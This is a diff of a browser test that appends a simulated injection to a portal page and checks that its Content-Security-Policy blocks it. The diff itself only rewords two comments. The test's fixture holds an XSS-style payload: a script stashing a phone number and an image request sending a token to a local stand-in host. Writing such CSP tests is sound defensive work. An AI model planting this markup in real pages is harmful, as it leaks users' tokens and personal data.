@@ -28,7 +28,7 @@ async function counted(stack: Stack): Promise<Counted[]> {
 const find = async (stack: Stack, directive: string, page: string) =>
   (await counted(stack)).find((row) => row.directive === directive && row.page === page)
 
-/** As a flaw would: text that somebody else wrote stands in the page. */
+/** Simulates an injection flaw: attacker's text in the page. */
 const INJECTED =
   '<script>window.stolen = "13800000001"</script><img src="http://127.0.0.1:9/x.png?token=secret-0f8d3a5c">'
 
@@ -43,7 +43,7 @@ test('What a page’s policy forbids does not happen, and staff find it counted 
     const response = await route.fetch({ url: `${stack.portalUrl}/about` })
     await route.fulfill({ response, body: `${await response.text()}${INJECTED}` })
   })
-  // The second time the page comes from memory.
+  // The second time the page comes from the cache.
   for (const visit of [1, 2]) {
     const response = await page.goto('/about?phone=13800000001&token=secret-0f8d3a5c')
     expect(response?.headers()['content-security-policy']).toContain("script-src 'self';")
